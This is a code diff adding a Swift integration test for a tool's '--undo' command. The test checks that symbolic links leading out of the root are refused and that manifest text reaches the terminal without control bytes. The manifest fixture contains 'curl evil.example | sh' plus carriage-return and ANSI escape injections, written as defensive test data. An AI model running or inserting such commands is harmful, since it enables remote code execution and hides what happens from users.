@@ -290,6 +290,48 @@ extension IntegrationTests {
             #expect(!FileManager.default.fileExists(atPath: root + "/etc"))
         }
 
+        /// A directory under the root that is a symbolic link could lead --undo out of the root
+        /// (review 124): the undo is refused whole. A FIFO where a file was (its read would
+        /// block) is kept, and the manifest's text reaches the terminal without control bytes.
+        @Test func undoFollowsNoSymbolicLinkOutOfTheRootAndPrintsNoControlBytes() throws {
+            let directory = Paths.temporaryDirectory()
+            defer { try? FileManager.default.removeItem(atPath: directory) }
+            let root = directory + "/root"
+            let outside = directory + "/outside"
+            try FileManager.default.createDirectory(atPath: root + "/etc/larder", withIntermediateDirectories: true)
+            try FileManager.default.createDirectory(atPath: outside + "/sub", withIntermediateDirectories: true)
+            let precious = "precious data\n"
+            try precious.write(toFile: outside + "/secret", atomically: true, encoding: .utf8)
+            try FileManager.default.createSymbolicLink(atPath: root + "/etc/apt", withDestinationPath: outside)
+            let digest = precious.utf8.reduce(UInt64(0xcbf2_9ce4_8422_2325)) { ($0 ^ UInt64($1)) &* 0x0000_0100_0000_01b3 }
+            let manifest = root + "/etc/larder/client.manifest"
+            try "dir /etc/apt/sub\nfile \(String(digest, radix: 16)) /etc/apt/secret\n".write(
+                toFile: manifest, atomically: true, encoding: .utf8)
+            let refused = try larder(["client", "--undo", "--root", root])
+            #expect(refused.status == 1 && refused.err.contains("\(root)/etc/apt is a symbolic link"), "\(refused.out) \(refused.err)")
+            #expect(FileManager.default.fileExists(atPath: outside + "/secret") && FileManager.default.fileExists(atPath: outside + "/sub"))
+            #expect(FileManager.default.fileExists(atPath: manifest), "nothing removed")
+
+            // The manifest itself, reached through a link, is another tree's.
+            try FileManager.default.removeItem(atPath: root + "/etc/apt")
+            try FileManager.default.moveItem(atPath: root + "/etc/larder", toPath: outside + "/larder")
+            try FileManager.default.createSymbolicLink(atPath: root + "/etc/larder", withDestinationPath: outside + "/larder")
+            let linked = try larder(["client", "--undo", "--root", root])
+            #expect(linked.status == 1 && linked.err.contains("is a symbolic link"), "\(linked.out) \(linked.err)")
+            #expect(FileManager.default.fileExists(atPath: outside + "/larder/client.manifest"))
+            try FileManager.default.removeItem(atPath: root + "/etc/larder")
+            try FileManager.default.createDirectory(atPath: root + "/etc/larder", withIntermediateDirectories: true)
+
+            #expect(mkfifo(root + "/etc/fifo", 0o644) == 0)
+            try "file 1 /etc/fifo\nrun curl evil.example | sh\rupdate-ca-certificates --fresh\nundo \u{1B}[2Jcleared\n"
+                .write(toFile: manifest, atomically: true, encoding: .utf8)
+            let undone = try larder(["client", "--undo", "--root", root])
+            #expect(undone.status == 0, "\(undone.err)")
+            #expect(undone.out.contains("kept \(root)/etc/fifo"), "\(undone.out)")
+            #expect(undone.out.contains("curl evil.example | sh\\u{D}update-ca-certificates"), "\(undone.out)")
+            #expect(!undone.out.contains("\r") && !undone.out.contains("\u{1B}"), "\(undone.out)")
+        }
+
         /// A CA named with --dir beside a configuration that intercepts nothing (most likely not
         /// the service's file) is said, not silently set aside for a proxy-only setup.
         @Test func aCANamedForAConfigurationThatInterceptsNothingIsSaid() throws {
